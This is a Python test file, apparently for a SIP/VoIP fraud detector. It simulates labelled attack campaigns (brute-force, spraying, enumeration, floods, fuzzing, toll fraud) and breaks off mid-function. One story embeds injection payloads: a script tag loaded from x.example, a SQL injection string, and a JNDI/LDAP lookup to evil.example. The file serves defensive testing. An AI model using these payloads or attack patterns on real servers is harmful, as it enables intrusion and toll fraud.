#!/usr/bin/env python3
"""Campaigns in other dialects than fraud_unseen.py speaks, and as other taps see them: fraud_dialects.py TOOL [STORY...|all].

Each labelled event was written down before the tool saw the capture; it must be told once, with its kind, sources, accounts, numbers
and counts; nothing else may be graver than medium. Without names, those stories are told that found something wrong once, and some more."""
import struct
import sys

from fraud_dialects_wire import SETS, Bot, Handset, Pbx, Tap, clinic, compact, folded, lower, provider, routed, shuffled
from fraud_unseen import LEADS, tell
from fraud_wire import DAY, HOUR, MONDAY, Leg, Server, keep_registered, md5, numbers_of, ordinary_calls, reply, sdp

STORIES = {}
LEADS["options-scan"].add("FRAUD-006")
LEADS["flood"].add("FRAUD-028")
LEADS["tdos"].add("FRAUD-067")
LEADS["robocalling"].add("FRAUD-051")
A, B, C, D = "45.143.220.115", "103.145.13.9", "62.210.105.116", "146.0.77.38"


def story(function):
    STORIES[function.__name__.replace("_", "-")] = function
    return function


# --- what is done, with what must be told of it ----------------------------------------------------------------------

def sweep(bot, t, first, n, answering=(), gap=.05, method="OPTIONS", kind="options-scan", user="100", line="200 OK"):
    for k in range(n):
        server = Server(bot.w, "%s.%d" % (first, 1 + k))
        bot.ask(t + gap * k, server, method, user, line if k in answering else None)
    return dict(kind=kind, sources=[bot.source], attempts=n, successes=len(answering), messages=n)


def enumerate_(bot, t, server, users, found, gap=.1, method="REGISTER", absent="404 Not Found", present="401 Unauthorized", told=True):
    for k, user in enumerate(users):
        bot.ask(t + gap * k, server, method, user, present if user in found else absent)
    return dict(kind="enumeration", sources=[bot.source], attempts=len(users), accounts=sorted(found) if told else [], messages=len(users))


def crack(bot, t, server, user, n, right=False, gap=.2, outcome=None, method="REGISTER", uri=None, keep=False):
    for k in range(n):
        won = right and k == n - 1
        bot.guess(t + gap * k, server, user, "w%d" % k, ("200 OK" if method == "REGISTER" else "183 Session Progress") if won else outcome, method, uri, keep)
    out = [dict(kind="brute-force", sources=[bot.source], accounts=[user], attempts=n, successes=int(right))]
    return out + ([dict(kind="account-compromise", sources=[bot.source], accounts=[user], severity="critical")] if right else [])


def theft(w, site, t, user, source, called, talk=300., gap=25., make="baresip", register=True, over="udp", **how):
    thief = Handset(w, user, source, SETS[make], 5070, over=over)
    if register:
        thief.register(t - 40, site)
    for k, number in enumerate(called):
        site.out(t + gap * k, thief, number, ring=2.5, talk=talk, by_caller=False, **how)
    return dict(kind="toll-fraud", sources=[source], accounts=[user], calls=len(called), answered=len(called), minutes=len(called) * talk / 60, numbers=list(called))


def users(first, n):
    return [str(first + k) for k in range(n)]


def extensions(site):
    return {p.user for p in site.phones}


# --- logins and guessing ---------------------------------------------------------------------------------------------

@story
def same_answer_to_everybody():
    """Asterisk asks unknown users too: a sweep, users in order without telling which exist, then guesses. No User-Agent at all."""
    w = Tap(301)
    site = clinic(w)
    bot, t = Bot(w, A, "vicious"), site.begin + 2 * HOUR
    outside = Pbx(w, "203.0.113.10", name=site.name, realm="asterisk")
    return w, [sweep(bot, t, "203.0.113", 60, (9,)), enumerate_(bot, t + 300, outside, users(2190, 90), users(2190, 90), told=False), *crack(bot, t + 700, outside, "2203", 220, True)]


@story
def registrar_that_says_407():
    w = Tap(302, mangle=lower)
    site = provider(w, login="407 Proxy Authentication Required", layout="threecx", name="3CXPhoneSystem 18.0.9.20", realm="3CXPhoneSystem", wrong="407 Proxy Authentication Required")
    return w, crack(Bot(w, B, "compact", "3CX Mobile Client 3.0", rotates=True), site.begin + 2 * HOUR, site, "441612", 90, True, gap=4)


@story
def freeswitch_says_403_to_one_call_id():
    """Rising CSeq in one Call-ID, ports rotate, three accounts in turn."""
    w = Tap(303, mangle=shuffled)
    site = provider(w, wrong="403 Forbidden", hours=10)
    bot, t = Bot(w, C, "script", "Linphone Desktop/5.1.2", rotates=True, call_id="abcdef0123456789"), site.begin + HOUR
    for k in range(150):
        bot.port = 20000 + k
        bot.guess(t, site, ("441611", "441613", "441617")[k % 3], "q%d" % k)
        t += w.rnd.uniform(30, 140)
    return w, [dict(kind="brute-force", sources=[C], accounts=["441611", "441613", "441617"], attempts=150, successes=0)]


@story
def sha256_cracked():
    w = Tap(304, vlan=(100,))
    site = provider(w, digest="sha256")
    return w, crack(Bot(w, A, "sipsak", "sipsak 0.9.8"), site.begin + HOUR, site, "441620", 60, True, gap=7)


@story
def two_challenges_in_one_answer():
    w = Tap(305, mangle=folded)
    site = clinic(w, digest="both")
    return w, crack(Bot(w, D, "script", "Yealink SIP-T46U 108.86.0.20"), site.begin + HOUR, site, "2205", 70, gap=11)


@story
def old_digest_without_qop():
    w = Tap(306, mangle=compact)
    site = provider(w, digest="rfc2069", name="Grandstream UCM6302V1.4A 1.0.20.7", wrong="401 Unauthorized")
    return w, crack(Bot(w, D, "pts", "Z 3.15.40006 rv2.8.20"), site.begin + 3 * HOUR, site, "441615", 55, True, gap=3)


@story
def nonce_kept_and_stale_now_and_then():
    """No first request without credentials; every fortieth answer says stale, which is no failure."""
    w = Tap(307)
    site = provider(w)
    bot, t = Bot(w, B, "vicious", "Fanvil X4 2.12.1"), site.begin + HOUR
    for k in range(200):
        bot.guess(t + .5 * k, site, "441618", "n%d" % k, "401 Unauthorized stale" if k % 40 == 39 else "401 Unauthorized", keep=True)
    return w, [dict(kind="brute-force", sources=[B], accounts=["441618"], attempts=195, successes=0)]


@story
def invites_that_guess():
    w = Tap(308)
    site = clinic(w)
    outside = Pbx(w, "203.0.113.10", name=site.name, realm="asterisk", wrong="407 Proxy Authentication Required")
    return w, crack(Bot(w, C, "pts", "Cisco-SIPGateway/IOS-15.4.3.M6a"), site.begin + HOUR, outside, "2202", 48, True, gap=6, method="INVITE", uri="sip:01125263555@203.0.113.10")


@story
def subscriptions_that_guess():
    w = Tap(309)
    site = provider(w)
    return w, crack(Bot(w, C, "script", None, rotates=True), site.begin + HOUR, site, "441619", 40, gap=9, method="SUBSCRIBE", outcome="407 Proxy Authentication Required")


@story
def every_guess_with_another_face():
    """User-Agent, order of fields and port change with each request."""
    w = Tap(310)
    site = provider(w, hours=12)
    t, agents = site.begin + HOUR, ("Yealink SIP-T29G 46.83.0.50", "Cisco/SPA303-8.0.1", "snom370/8.7.3.19", "X-Lite release 4.9.8", "Linksys/PAP2T-5.1.6", None)
    for k in range(140):
        Bot(w, A, ("sipsak", "pts", "compact", "script", "vicious")[k % 5], agents[k % 6], rotates=True).guess(t, site, "441622", "v%d" % k, "200 OK" if k == 139 else None)
        t += w.rnd.uniform(40, 180)
    return w, [dict(kind="brute-force", sources=[A], accounts=["441622"], attempts=140, successes=1), dict(kind="account-compromise", sources=[A], accounts=["441622"])]


@story
def addresses_of_one_v6_network():
    w = Tap(311)
    site = provider(w, address="2001:db8:40::40", hours=10)
    t, sources = site.begin + HOUR, ["2a01:4f8:c0c:77::%x" % (0x1001 + 77 * k) for k in range(120)]
    for k in range(240):
        Bot(w, sources[k % 120], "script", "baresip v1.1.0").guess(t, site, "441614", "s%d" % k)
        t += w.rnd.uniform(20, 100)
    return w, [dict(kind="brute-force", sources=sources, accounts=["441614"], attempts=240, successes=0)]


@story
def sprayed_behind_a_nat():
    """A guest in the hotel whose eight phones register through the same address."""
    w = Tap(312)
    site = provider(w, phones=26)
    mates = [Handset(w, str(441700 + k), "90.2.3.4", SETS["gigaset"], port=9000 + k, local="192.168.9.%d" % (10 + k)) for k in range(8)]
    for phone in mates:
        keep_registered(site, phone, site.begin, site.begin + 9 * HOUR, 1700)
    ordinary_calls(site, mates, site.begin + HOUR, site.begin + 8 * HOUR, 4, site.friends)
    t, victims = site.begin + 4 * HOUR, users(441610, 24)
    for k, user in enumerate(victims):
        Bot(w, "90.2.3.4", "script", "MicroSIP/3.21.3", port=61000 + k).guess(t + 5 * k, site, user, "Summer2026", "200 OK" if k == 17 else None)
    return w, [dict(kind="password-spraying", sources=["90.2.3.4"], accounts=victims, attempts=24, successes=1), dict(kind="account-compromise", sources=["90.2.3.4"], accounts=[victims[17]])]


@story
def one_of_two_registrars():
    w = Tap(313)
    site, other = provider(w), provider(w, address="192.0.2.60", stem="+441614970", name="kamailio (5.6.2)", layout="plain")
    return w, [dict(one, targets=["192.0.2.60"]) for one in crack(Bot(w, B, "vicious", "PolycomVVX-VVX_250-UA/6.3.0"), site.begin + 2 * HOUR, other, "441616", 130, True)]


@story
def names_and_passwords_from_a_list():
    w = Tap(314, mangle=routed)
    site = provider(w, wrong="403 Forbidden")
    t, names = site.begin + 2 * HOUR, ["%s.%s" % (w.word(5, "abcdefgilmnorst"), w.word(6, "abcdefgilmnorst")) for _ in range(60)]
    for k, name in enumerate(names):
        bot = Bot(w, D, "compact", None, port=2000 + k)
        if k % 4:
            bot.ask(t + 14 * k, site, "REGISTER", name, "404 Not Found")
        else:
            bot.guess(t + 14 * k, site, name, w.word(8), "200 OK" if k in (16, 48) else None)
    return w, [dict(kind="credential-stuffing", sources=[D], account_count=60, successes=2), dict(kind="account-compromise", sources=[D], accounts=[names[16], names[48]])]


@story
def stuffed_from_ninety_homes():
    w = Tap(315)
    site = provider(w, hours=13)
    t, sources, names = site.begin + HOUR, ["%d.%d.66.%d" % (70 + k, 2 * k, 5 + k) for k in range(90)], ["m%s" % w.word(7) for _ in range(90)]
    for k in range(90):
        Bot(w, sources[k], ("script", "compact", "sipsak")[k % 3], ("Zoiper rv2.10", "LinphoneiOS/5.0", None)[k % 3], port=1025 + k).guess(t, site, names[k], w.word(9), "200 OK" if k in (30, 77) else None)
        t += w.rnd.uniform(100, 400)
    return w, [dict(kind="credential-stuffing", sources=sources, attempts=90, successes=2), dict(kind="account-compromise", accounts=sorted([names[30], names[77]]))]


@story
def many_guess_one_then_a_third_calls():
    w = Tap(316)
    site = provider(w, hours=13)
    t, sources = site.begin + HOUR, ["%d.%d.12.%d" % (31 + k, 4 * k, 3 + k) for k in range(25)]
    for k in range(175):
        Bot(w, sources[k % 25], "pts", "Ozeki VoIP SIP SDK", rotates=True).guess(t, site, "441623", "z%d" % k, "200 OK" if k == 174 else None)
        t += w.rnd.uniform(60, 180)
    return w, [dict(kind="brute-force", sources=sources, accounts=["441623"], attempts=175, successes=1), dict(kind="account-compromise", accounts=["441623"]),
               dict(theft(w, site, t + 1800, "441623", D, numbers_of(w, ("+37167", "+2522", "+2397"), 22)), )]


@story
def tap_behind_the_border():
    """The border registers on behalf of all: one address, the Vias tell who asked."""
    w = Tap(317)
    site = Pbx(w, "10.0.9.5", outside="10.0.9.5", cc="44", stem="+441614960", name="kamailio (5.7.1)", layout="plain", carrier="10.0.9.1")
    edge = "10.0.9.1"

    def via(text):
        return "Via: SIP/2.0/UDP %s;branch=z9hG4bK%s\r\n" % (edge, md5(text.split("branch=")[1].split(";")[0].split("\r")[0])[:14])

    def through(text, real):
        at = text.index("Via:")
        return text[:at] + via(text) + text[at:].replace("rport", "received=%s;rport=%d" % real, 1)
    begin = MONDAY + 2 * DAY + 8 * HOUR
    inner = w.send
    behind = {}

    def send(t, src, dst, text, over="udp", client=True):
        if isinstance(text, str) and src[0] in behind:
            text, src = through(text, src), (edge, 5060)
        elif dst[0] in behind:
            text, dst = text.replace("Via:", via(text) + "Via:", 1), (edge, 5060)
        inner(t, src, dst, text, over, client)
    w.send = send
    people = [Handset(w, str(3001 + k), "82.%d.1.%d" % (10 + k, 5 + k), SETS[("poly", "fritz", "gigaset")[k % 3]], local="192.168.1.%d" % (10 + k)) for k in range(15)]
    behind.update({p.at[0]: 1 for p in people})
    behind[A] = 1
    for phone in people:
        keep_registered(site, phone, begin, begin + 8 * HOUR, 1500)
    bot = Bot(w, A, "sipsak", "sip agent")
    for k in range(80):
        bot.guess(begin + 2 * HOUR + 3 * k, site, "3004", "e%d" % k, "403 Forbidden")
    return w, [dict(kind="brute-force", accounts=["3004"], attempts=80)]


@story
def both_sides_of_a_border():
    """The border makes new Call-IDs; the guesses inside come from its address and are the same guesses."""
    w = Tap(319)
    site, core, inner = provider(w), ("10.8.0.5", 5060), w.send

    def send(t, src, dst, text, over="udp", client=True):
        inner(t, src, dst, text, over, client)
        if "REGISTER" in text and site.at in (src, dst):
            call_id = text.split("Call-ID: ")[-1].split("\r")[0]
            branch = text.split("branch=")[1].split(";")[0].split("\r")[0]
            copy = text.replace(call_id, md5(call_id) + "@10.8.0.2").replace(branch, "z9hG4bKb2b" + md5(branch)[:16])
            copy = copy.replace(";tag=", ";tag=b2b")
            asks = dst == site.at
            inner(t + (.003 if asks else -.003), ("10.8.0.2", 5060) if asks else core, core if asks else ("10.8.0.2", 5060), copy, "udp", asks)
    w.send, t = send, site.begin + 2 * HOUR
    outer = Bot(w, A, "pts", "eyeBeam release 1102q")
    for phone in site.phones:
        for k in range(12):
            phone.register(t - 1800 + 600 * k + int(phone.user) % 37, site, fresh=True)
    for k in range(70):
        outer.guess(t + 6 * k, site, "441620", "b%d" % k, "403 Forbidden")
    return w, [dict(kind="brute-force", sources=[A], accounts=["441620"], attempts=70)]


@story
def packets_cut_at_four_hundred():
    w = Tap(320, snap=400)
    site = provider(w)
    return w, [enumerate_(Bot(w, A, "vicious", "Cisco-CP7961G/8.5"), site.begin + HOUR, site, users(441590, 60), extensions(site), gap=.5)]


@story
def starts_in_the_middle():
    """The capture begins when the guessing runs already, and ends in the theft."""
    w = Tap(321)
    site = provider(w)
    t = site.begin + 5
    events = crack(Bot(w, C, "sipsak", "Grandstream HT801"), t, site, "441611", 64, True, gap=9)
    return w, [*events, theft(w, site, t + 1500, "441611", C, numbers_of(w, ("+2522", "+88234", "+2245"), 16), register=False, make="fritz")]


@story
def sprayed_over_tcp_behind_tls():
    """A front end that ends TLS hands on in clear over TCP."""
    w = Tap(322, mangle=shuffled)
    site = provider(w, over="tcp", phones=24, port=5061)
    t, victims = site.begin + 2 * HOUR, users(441610, 22)
    for k, user in enumerate(victims + victims):
        Bot(w, D, "script", "Telephone 1.6", port=33000 + k, over="tcp").guess(t + 20 * k, site, user, "Spring%d" % (k // 22))
    return w, [dict(kind="password-spraying", sources=[D], accounts=victims, attempts=44, successes=0)]


@story
def browsers_and_a_guesser():
    w = Tap(323)
    site = provider(w, over="ws", name="OpenSIPS (3.4.2)", layout="plain")
    return w, crack(Bot(w, B, "script", "SIP.js/0.15.11", port=51000, over="ws"), site.begin + HOUR, site, "441612", 45, gap=8)


@story
def slow_spray_of_a_week():
    """Two guesses an hour over three days."""
    w = Tap(324)
    site = provider(w, phones=24, hours=60, rate=3)
    t, victims = site.begin + HOUR, users(441610, 24)
    for k in range(110):
        Bot(w, A, "script", "Linphone/3.6.1", rotates=True).guess(t, site, victims[(5 * k) % 24], "p%d" % k)
        t += w.rnd.uniform(1200, 2400)
    return w, [dict(kind="password-spraying", sources=[A], accounts=victims, attempts=110, successes=0)]


@story
def search_before_the_spray():
    """A hundred and twenty names are asked for in vain, eighteen exist and get one word each: two campaigns, not one."""
    w = Tap(326)
    site = provider(w, hours=40, rate=3)
    bot, t, found = Bot(w, B, "sipsak", None), site.begin + HOUR, users(441610, 18)
    for k, user in enumerate(users(441550, 60) + found + users(441628, 60)):
        if user in found:
            bot.guess(t, site, user, "Spring")
        else:
            bot.ask(t, site, "REGISTER", user, "404 Not Found")
        t += w.rnd.uniform(600, 900)
    return w, [dict(kind="enumeration", sources=[B]), dict(kind="password-spraying", sources=[B], accounts=found, attempts=18, successes=0)]


@story
def refused_then_locked_out():
    """The account is locked after ten: the rest is refused with 403, then silence."""
    w = Tap(325)
    site = clinic(w)
    bot, t = Bot(w, D, "metasploit", "Test Agent"), site.begin + HOUR
    for k in range(70):
        bot.guess(t + 2 * k, site, "2204", "l%d" % k, "401 Unauthorized" if k < 10 else "403 Forbidden")
    return w, [dict(kind="brute-force", sources=[D], accounts=["2204"], attempts=70, successes=0)]


# --- scans -----------------------------------------------------------------------------------------------------------

@story
def metasploit_looks_round():
    w = Tap(330)
    site = provider(w)
    bot, t = Bot(w, A, "metasploit", "msf-scan"), site.begin + HOUR
    first = sweep(bot, t, "192.0.2", 64, (39, 59))
    return w, [first, enumerate_(bot, t + 900, site, users(441600, 80), extensions(site), gap=.3)]


@story
def names_by_subscription():
    w = Tap(331, mangle=compact)
    site = provider(w)
    return w, [enumerate_(Bot(w, B, "script", "Grandstream GXP1625"), site.begin + HOUR, site, users(441600, 50), extensions(site), gap=2, method="SUBSCRIBE", absent="404 Not found", present="407 Proxy Authentication Required")]


@story
def unknown_404_known_480():
    w = Tap(332)
    site = provider(w)
    return w, [enumerate_(Bot(w, C, "sipp", None), site.begin + HOUR, site, users(441596, 60), extensions(site), gap=1, method="INVITE", present="480 Temporarily Unavailable")]


@story
def unknown_403_known_200():
    w = Tap(333)
    site = provider(w)
    return w, [enumerate_(Bot(w, C, "sipsak", "Asterisk PBX 1.6"), site.begin + HOUR, site, users(441596, 60), extensions(site), gap=.1, method="OPTIONS", absent="403 Forbidden", present="200 OK")]


@story
def one_name_in_ten_minutes():
    """One Call-ID for all, another port each, for most of a day."""
    w = Tap(334)
    site = provider(w, hours=24, rate=4)
    bot, t, found = Bot(w, D, "compact", "Panasonic_KX-UT123/01.302", rotates=True, call_id="deadbeef00112233"), site.begin + HOUR, []
    for k in range(110):
        user = str(441560 + k)
        found += [user] if user in extensions(site) else []
        bot.ask(t, site, "REGISTER", user, "401 Unauthorized" if user in extensions(site) else "404 Not Found")
        t += w.rnd.uniform(450, 800)
    return w, [dict(kind="enumeration", sources=[D], attempts=110, accounts=found, messages=110)]


@story
def names_asked_for_from_many():
    """Sixteen sources, each another name in User-Agent, one program."""
    w = Tap(335)
    site = provider(w, hours=11)
    t, sources = site.begin + HOUR, ["%d.9.44.%d" % (101 + 3 * k, 17 + k) for k in range(16)]
    for k in range(112):
        Bot(w, sources[k % 16], "pts", ("Cisco", "Avaya", "Mitel", "Snom")[k % 4]).ask(t + 200 * k, site, "REGISTER", str(443000 + k), "404 Not Found")
    return w, [dict(kind="enumeration", sources=sources, attempts=112)]


@story
def ports_of_one_host():
    w = Tap(336)
    site = provider(w)
    bot, t = Bot(w, B, "metasploit", None), site.begin + HOUR
    for k in range(30):
        bot.ask(t + k, Server(w, "192.0.2.40", port=5040 + k), "OPTIONS", "100", "200 OK" if k == 20 else None)
    return w, [dict(kind="options-scan", sources=[B], attempts=30, messages=30)]


@story
def phones_called_where_they_stand():
    """Every telephone in the net of a branch is called by address; half of them ring."""
    w = Tap(337)
    site = clinic(w, begin=MONDAY + 3 * DAY + 1 * HOUR)
    bot, t = Bot(w, C, "script", "sipcli/v1.8"), site.begin + HOUR
    for k in range(40):
        server = Server(w, "198.18.5.%d" % (10 + k))
        text = bot.ask(t + 3 * k, server, "INVITE", "100")
        if k % 2:
            server.answer(t + 3 * k + .1, text, "180 Ringing", (C, 5060))
            cancel = text.replace("INVITE ", "CANCEL ", 1).replace(" INVITE", " CANCEL")
            w.send(t + 3 * k + 2, (C, 5060), server.at, cancel)
            server.answer(t + 3 * k + 2.01, cancel, "200 OK", (C, 5060))
            server.answer(t + 3 * k + 2.02, text, "487 Request Terminated", (C, 5060))
    return w, [dict(kind="invite-scan", sources=[C], attempts=40, successes=20)]


@story
def registers_at_every_door():
    """Nobody answers."""
    w = Tap(338)
    provider(w)
    return w, [sweep(Bot(w, D, "compact", "PBX"), MONDAY + 3 * DAY + 8 * HOUR, "198.18.7", 90, (), 5, "REGISTER", "register-scan", "1000")]


@story
def one_door_in_a_quarter_of_an_hour():
    w = Tap(339)
    provider(w, hours=20, rate=3)
    return w, [sweep(Bot(w, A, "sipp", "Cisco-SIPGateway/IOS-12.x"), MONDAY + 3 * DAY + 7 * HOUR, "198.18.8", 60, (5, 18), 900)]


@story
def four_hands_at_once():
    """One asks for users, one guesses, one sprays, one floods: in the same hour, from four addresses."""
    w = Tap(340, mangle=folded)
    site = provider(w, phones=26)
    t, victims = site.begin + 3 * HOUR, users(441610, 20)
    events = [enumerate_(Bot(w, A, "vicious", None), t, site, users(441580, 100), extensions(site), gap=7), *crack(Bot(w, B, "sipsak", None), t + 60, site, "441633", 80, True, gap=5)]
    for k, user in enumerate(victims):
        Bot(w, C, "pts", "Bria 4").guess(t + 100 + 11 * k, site, user, "Passw0rd")
    events.append(dict(kind="password-spraying", sources=[C], accounts=victims, attempts=20, successes=0))
    evil = Bot(w, D, "sipp", None)
    for k in range(3000):
        evil.ask(t + 600 + k * .01, site, "INVITE", "441610")
    events.append(dict(kind="flood", sources=[D], messages=3000))
    events.append(theft(w, site, t + 2400, "441633", B, numbers_of(w, ("+2326", "+96079"), 14), gap=40))
    return w, events


@story
def neighbours_share_the_work():
    """One scans, its neighbour guesses, a third elsewhere calls."""
    w = Tap(341)
    site = provider(w)
    t = site.begin + 2 * HOUR
    return w, [sweep(Bot(w, "45.143.220.20", "metasploit", None), t, "192.0.2", 70, (39,)), enumerate_(Bot(w, "45.143.220.21", "metasploit", None), t + 400, site, users(441600, 60), extensions(site), gap=.2),
               *crack(Bot(w, "45.143.220.22", "metasploit", None), t + 900, site, "441621", 100, True, gap=2), theft(w, site, t + 4000, "441621", D, numbers_of(w, ("+53529", "+2162"), 30), talk=240.)]


# --- floods and broken messages --------------------------------------------------------------------------------------

@story
def inviteflood():
    w = Tap(350)
    site = clinic(w)
    t, call_id = site.begin + 2 * HOUR, w.hex(32)
    for k in range(4000):
        text = "\r\n".join(["INVITE sip:2201@203.0.113.10 SIP/2.0", "Via: SIP/2.0/UDP %s:9;branch=%s" % (A, w.hex(32)), "Max-Forwards: 70", "Content-Length: 0", "To: <sip:2201@203.0.113.10:5060>", 'From: "" <sip:%s:9>;tag=%s' % (A, w.hex(32)),
                            "Call-ID: " + w.hex(32), "CSeq: %010d INVITE" % (k + 1), "Supported: timer", "Allow: NOTIFY, REFER, OPTIONS, INVITE, ACK, CANCEL, BYE", "Contact: <sip:%s:9>" % A, "User-Agent: Elite 1.0 Brcm Callctrl/1.5.1.0 MxSF/v.3.2.6.26", "", ""])
        w.send(t + k * .004, (A, 9), ("203.0.113.10", 5060), text)
    return w, [dict(kind="flood", sources=[A], messages=4000)]


@story
def options_over_one_connection():
    w = Tap(351)
    site = provider(w, over="tcp")
    bot, t = Bot(w, B, "compact", None, port=44444, over="tcp"), site.begin + 2 * HOUR
    for k in range(2400):
        bot.ask(t + k * .02, site, "OPTIONS", "441610", "200 OK")
    return w, [dict(kind="flood", sources=[B], messages=2400)]


@story
def registers_for_everybody():
    w = Tap(352)
    site = provider(w)
    bot, t = Bot(w, C, "sipp", None), site.begin + 2 * HOUR
    for k in range(2000):
        bot.ask(t + k * .02, site, "REGISTER", str(441610 + k % 18), "401 Unauthorized")
    return w, [dict(kind="flood", sources=[C], messages=2000)]


@story
def invites_with_borrowed_addresses():
    """mr.sip: each packet another random source; the target answers 401 to nobody."""
    w = Tap(353)
    site = provider(w)
    t, sources = site.begin + 2 * HOUR, []
    for k in range(1500):
        sources.append("%d.%d.%d.%d" % (1 + w.rnd.randrange(90), w.rnd.randrange(250), w.rnd.randrange(250), 1 + w.rnd.randrange(250)))
        Bot(w, sources[-1], "script", None, port=w.rnd.randrange(1025, 65000)).ask(t + k * .03, site, "INVITE", str(441610 + k % 18))
    return w, [dict(kind="distributed-flood", messages=1500)]


@story
def protos_suite():
    w = Tap(354)
    site = provider(w)
    t = site.begin + 2 * HOUR
    bad = [lambda s: s.replace("CSeq: 1 INVITE", "CSeq: INVITE"), lambda s: s.replace("Max-Forwards: 70", "Max-Forwards: " + "%s" * 90), lambda s: s.replace("To: <", "To: " + "(" * 200 + "<"), lambda s: s.replace("Content-Length: 0", "Content-Length: -17"),
           lambda s: s.replace("Via: SIP/2.0", "Via: aaaaaaaa" + "\x07" * 30), lambda s: s.replace("INVITE sip", "INVITE " + "a" * 3000 + "sip", 1), lambda s: s.replace("Call-ID: ", "Call-ID "), lambda s: s.replace(" SIP/2.0\r\n", " SIP/9.7\r\n", 1),
           lambda s: s.replace("Contact: <", "Contact: <" * 80)]
    base = Bot(w, A, "script", None)
    for k in range(90):
        text = base.ask(t + k, site, "INVITE", "441610")
        w.said.pop()
        w.send(t + k, (A, 5060), site.at, bad[k % 9](text).encode("latin1"))
    return w, [dict(kind="malformed-fuzzing", sources=[A])]


@story
def injected_in_other_places():
    w = Tap(355)
    site = provider(w)
    t, bot = site.begin + 2 * HOUR, Bot(w, B, "script", "<script src=//x.example/a.js></script>")
    bot.ask(t, site, "REGISTER", "441610", "401 Unauthorized")
    sql = Bot(w, B, "script", None)
    sql.guess(t + 30, site, "x' or 1=1-- ", "w")
    sql.ask(t + 60, site, "INVITE", "441610", "404 Not Found", auth="X-Info: ${jndi:ldap://evil.example/a}")
    return w, [dict(kind="injection", sources=[B], severity="high")]


@story
def media_flooded_and_put_in():
    w = Tap(356)
    site = provider(w)
    t, a, b = site.begin + 2 * HOUR, ("86.10.21.7", 16400), ("192.0.2.40", 24000)
    leg = Leg(w, Handset(w, "441610", a[0], SETS["fritz"], 5060), site.at, "sip:441611@voice.example", name=site.name)
    leg.with_media(t, a, b)
    w.rtp(t + .6, a, b, 1500, 50, ssrc=7)
    w.rtp(t + .6, b, a, 1500, 50, ssrc=8)
    w.rtp(t + 9, (C, 7000), b, 150, 50, ssrc=0x51, kind=0, first=40000)
    for port in range(75):
        w.rtp(t + 60 + port * .004, (D, 9999), ("192.0.2.40", 30000 + 2 * port), 40, 1 / .3, ssrc=0x99)
    leg.bye(t + 31)
    return w, [dict(kind="rtp-injection", sources=[C], messages=150), dict(kind="flood", sources=[D])]


# --- toll fraud and calls --------------------------------------------------------------------------------------------

@story
def theft_in_fragments_and_tags():
    """802.1ad, datagrams in fragments, each frame twice by the mirror port; a colleague calls home meanwhile."""
    w = Tap(360, vlan=(12, 700), mtu=700, twice=True)
    site = provider(w)
    t = site.begin + 4 * HOUR
    for k in range(3):
        site.out(t + 300 * k, site.phones[4], site.friends[k], ring=8, talk=100)
    return w, [theft(w, site, t, "441613", A, numbers_of(w, ("+2522", "+37167", "+88234"), 18), talk=210.)]


@story
def theft_seen_by_homer():
    w = Tap(361, hep=True, mangle=lower)
    site = provider(w)
    t = site.begin + 2 * HOUR
    return w, [*crack(Bot(w, B, "compact", None), t, site, "441612", 50, True, gap=6), theft(w, site, t + 2000, "441612", B, numbers_of(w, ("+2326", "+2522"), 15), register=False)]


@story
def owner_and_thief_call_at_once():
    """The owner goes on with calls of his own; only the thief's count."""
    w = Tap(362)
    site = provider(w, rate=20)
    t = site.begin + 3 * HOUR
    owner = site.phones[6]
    for k in range(8):
        site.out(t + 200 * k, owner, site.friends[k], ring=6, talk=110)
    return w, [dict(theft(w, site, t, owner.user, C, numbers_of(w, ("+53529", "+53528"), 20), talk=590., gap=60), concurrent_peak=10)]


@story
def disa_at_night():
    """The voicemail's PIN is tried with keys; the third caller gets through and calls out again."""
    w = Tap(363)
    site = clinic(w, begin=MONDAY + 3 * DAY + 6 * HOUR, hours=18)
    t, caller = MONDAY + 3 * DAY + 22 * HOUR, "+12125550173"
    for k in range(12):
        site.arrive(t + 60 * k, caller, None, number="+16175552299", ring=.4, talk=25)
    seconds = 0
    for k in range(14):
        at = t + 1000 + 200 * k
        near = Leg(w, site.trunk, (site.outside, 5060), "sip:+16175552299@%s" % site.outside, name=site.name)
        near.start(at, frm="sip:%s@%s" % (caller, site.carrier[0]))
        far = Leg(w, site.self_, site.carrier, "sip:+53529%07d@%s" % (1234567 + k, site.carrier[0]), name="Oracle-SBC")
        site.both(at, [near], .4, 190)
        far.start(at + 12, frm="sip:+16175552299@%s" % site.outside)
        site.both(at + 12, [far], 2, 170)
        seconds += 170
    return w, [dict(kind="toll-fraud", calls=14, minutes=seconds / 60)]


@story
def forms_dialled_with_a_stolen_account():
    w = Tap(364)
    site = provider(w)
    t, thief, tail = site.begin + 2 * HOUR, Handset(w, "441616", A, SETS["bria"], 5072), "25261234567"
    thief.register(t - 30, site)
    forms = ["00", "900", "9011", "011", "+", "0", "9", "000", "810", "*00"]
    for k, form in enumerate(forms):
        site.out(t + 15 * k, thief, "+" + tail, dialled=form + tail, ring=.1, talk=0, reach=False, status="403 Forbidden")
    return w, [dict(kind="dial-plan-probe", sources=[A], attempts=10, successes=0, number_count=10)], ("registration-hijack",)


@story
def sipcli_finds_the_hole():
    w = Tap(365)
    site = clinic(w)
    outer = Pbx(w, "203.0.113.10", cc="1", form="", stem="+1617555", name=site.name, realm="asterisk", carrier="192.0.2.70")
    t, caller, tail = site.begin + 2 * HOUR, Handset(w, "102", B, SETS["sipjs"], 5060, domain="203.0.113.10"), "441224928231"
    forms = ["011", "9011", "00", "900", "1011", "8011", "7011", "99011", "+", "0"]
    for k, form in enumerate(forms):
        hit = form == "99011"
        outer.out(t + 12 * k, caller, "+" + tail, dialled=form + tail, login=False, reach=hit, ring=3 if hit else .1, talk=7 if hit else 0, **({} if hit else dict(status="404 Not Found")))
    called, seconds = numbers_of(w, ("+2522",), 10), 0
    for k, number in enumerate(called):
        outer.out(t + 800 + 50 * k, caller, number, ring=2, talk=260 + k, dialled="99011" + number[1:], login=False, by_caller=False)
        seconds += 260 + k
    return w, [dict(kind="dial-plan-probe", sources=[B], attempts=10, successes=1, number_count=10), dict(kind="toll-fraud", sources=[B], calls=10, minutes=seconds / 60)]


@story
def stranger_rings_the_reception():
    w = Tap(366)
    site = clinic(w)
    outer = Pbx(w, "203.0.113.10", cc="1", form="", stem="+1617555", name=site.name, realm="asterisk", carrier="192.0.2.70")
    t, bot = site.begin + 2 * HOUR, Bot(w, D, "script", "sipcli/v1.8")
    for k, user in enumerate(("8888", "7777", "5000")):
        bot.ask(t + 20 * k, outer, "INVITE", user, "404 Not Found")
    text = bot.ask(t + 100, outer, "INVITE", "2201")
    for after, line in ((.3, "180 Ringing"), (4, "200 OK")):
